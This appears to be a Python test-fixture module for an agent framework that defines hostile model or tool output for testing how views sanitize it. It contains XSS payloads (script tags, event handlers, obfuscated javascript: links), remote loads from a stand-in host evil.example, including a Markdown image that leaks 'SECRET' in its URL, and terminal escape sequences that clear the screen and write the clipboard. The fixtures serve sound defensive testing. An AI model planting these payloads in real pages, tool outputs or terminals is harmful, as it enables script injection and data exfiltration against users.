"""Text a hostile model or tool writes, for the tests of every view: markup that would run (setting
``window.pwned``) or fetch from another host (``evil.example``) if a view let it, and escape sequences that would
drive a terminal."""

from __future__ import annotations

EVIL_HOST = "evil.example"
CANARY = "window.pwned"
"""What a script or handler that ran would set (the browser tests read it)."""

HOSTILE = (
    f'<script>{CANARY}=1</script><img src=x onerror="{CANARY}=2"> <svg onload="{CANARY}=3"><circle/></svg> '
    f'<iframe src="http://{EVIL_HOST}/frame"></iframe> <details open ontoggle="{CANARY}=4">d</details> '
    f'<a href="java&#x73;cript:{CANARY}=5">a</a> [click](javascript:{CANARY}=6) [tab](<java\tscript:{CANARY}=7>) '
    f'<IMG SRC="http://{EVIL_HOST}/upper.png"> <img srcset="http://{EVIL_HOST}/set.png 1x"> '
    f'<div style="background:url(http://{EVIL_HOST}/bg.png)">css</div> <style>@import "http://{EVIL_HOST}/a.css"'
    f"</style> <video poster=http://{EVIL_HOST}/p.png></video> <object data=http://{EVIL_HOST}/o></object>\n\n"
    f"![chart](http://{EVIL_HOST}/leak?data=SECRET) ![ref][r] <http://{EVIL_HOST}/autolink> "
    f"$\\href{{javascript:{CANARY}=8}}{{math}}$ **bold** and a table:\n\n| a | b |\n|---|---|\n| <b>1</b> | 2 |\n\n"
    f"[r]: http://{EVIL_HOST}/ref.png\n\n"
    "\x1b]0;owned\x07\x1b[2J\x1b]52;c;b3duZWQ=\x07\x1b[31mred\x1b[0m\r\n"
)
"""Everything at once: raw HTML (scripts, handlers, frames, remote images, CSS), Markdown images (inline and by
reference), an autolink, TeX's ``\\href``, a table, and ANSI/OSC escape sequences."""
TERMINAL = ("\x1b", "\x07", "\x9b")
"""Characters that must never reach a plain-text view raw."""


TOOLS = f"""\
import base64
from agentkernel import Call, ScriptedModel, Turn, tool
from agentkernel.tools import Display, ToolOutput

HOSTILE = {HOSTILE!r}
PIXEL = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + b"\\0" * 20).decode()

@tool
def lookup(q: str) -> ToolOutput:
    "Look something up (returns what a hostile page says, with displays)."
    return ToolOutput(HOSTILE, displays=[Display({{"text/html": HOSTILE, "text/markdown": HOSTILE,
                                                  "text/plain": HOSTILE}}),
                                         Display({{"image/png": PIXEL, "text/plain": HOSTILE}})])

@tool(read_only=False)
def write_note(text: str) -> str:
    "Append a note (a side effect)."
    return "written"
"""
"""A cell's code defining ``HOSTILE``, a tool ``lookup`` whose output and displays (HTML, Markdown, an image) hold it,
and a side-effecting ``write_note`` (its call asks for approval)."""
